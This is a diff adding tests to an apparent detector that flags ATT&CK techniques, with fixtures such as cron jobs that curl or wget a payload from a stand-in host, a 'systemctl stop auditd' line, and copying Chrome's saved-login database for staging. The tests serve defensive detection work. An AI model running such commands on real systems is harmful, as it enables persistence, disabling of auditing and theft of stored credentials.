@@ -221,3 +221,27 @@ test('what is asked for by names, left with anybody, laid down as a timer or pac
   shows('T1562.012', [runs('systemctl stop auditd')])
   lacks('T1562.012', [runs('systemctl status auditd')])
 })
+
+test('what jobs and units will do', () => {
+  shows('T1105', [
+    file('write', '/etc/cron.d/sync', { start: '*/7 * * * * root curl -fsSL http://198.51.100.7/a -o /var/tmp/.a\n' }),
+  ])
+  shows('T1105', [file('write', '/var/spool/cron/crontabs/root', { start: '@daily wget -q http://x.example/a\n' })])
+  shows('T1222.002', [
+    file('write', '/etc/systemd/system/a.service', { start: '[Service]\nExecStart=-/bin/chmod 755 /opt/a\n' }),
+  ])
+  lacks('T1105', [file('write', '/etc/cron.d/sync', { start: '# curl http://x.example/a\n' })])
+  lacks('T1105', [file('write', '/opt/notes', { start: '*/7 * * * * root curl http://x.example/a\n' })])
+})
+
+test('copies of what programs keep secret lie ready to be taken along', () => {
+  const keeps = 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'
+  shows('T1074.001', [file('copy', keeps, { to: 'C:\\Users\\a\\AppData\\Local\\Temp\\x', decoy: 'secret' })])
+  lacks('T1074.001', [file('read', keeps, { decoy: 'secret' })])
+  lacks('T1074.001', [file('copy', 'C:\\a.txt', { to: 'C:\\b.txt', decoy: 'document' })])
+})
+
+test('what the libraries of the system decode', () => {
+  shows('T1140', [calls(call('crypt32.CryptStringToBinaryA', 'kZCQ', 0, 1))])
+  lacks('T1140', [calls(call('crypt32.CryptBinaryToStringA', 1, 4, 1))])
+})
